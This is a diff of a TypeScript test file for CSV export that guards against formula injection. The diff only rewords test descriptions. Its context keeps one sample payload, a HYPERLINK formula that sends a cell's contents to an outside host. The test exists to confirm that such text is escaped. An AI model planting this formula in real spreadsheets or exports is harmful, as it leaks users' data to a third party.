@@ -47,7 +47,7 @@ const formulas = [
   '=HYPERLINK("http://host/?"&A1)'
 ]
 
-describe("a text of others in a CSV", () => {
+describe("text from outside in a CSV", () => {
   it.effect.each(formulas)("is no formula: %j", (text) =>
     Effect.gen(function* () {
       const written = yield* csv([["head"], [text]])
@@ -57,7 +57,7 @@ describe("a text of others in a CSV", () => {
     })
   )
 
-  it.effect("leaves numbers, and other texts, as they are", () =>
+  it.effect("leaves numbers and harmless texts unchanged", () =>
     Effect.gen(function* () {
       const row = [-1.5, -1e-7, 0, -1e30, true, "-12", "-0.5", "-2e-7", "a=b", "'tis", "", "x-1"]
       assert.strictEqual(
@@ -67,7 +67,7 @@ describe("a text of others in a CSV", () => {
     })
   )
 
-  it.effect("has an apostrophe taken away only where one was put before it", () =>
+  it.effect("loses an apostrophe on reading only if one was added on writing", () =>
     Effect.sync(() => {
       for (const [cell, text] of [
         ["'=1", "=1"],
@@ -106,7 +106,7 @@ describe("a text of others in a CSV", () => {
   )
 
   it.effect.prop(
-    "comes back as it was, and never begins as a formula, whatever it is",
+    "is read back unchanged, and never begins like a formula",
     [Signs, Signs],
     ([left, right]) =>
       Effect.gen(function* () {
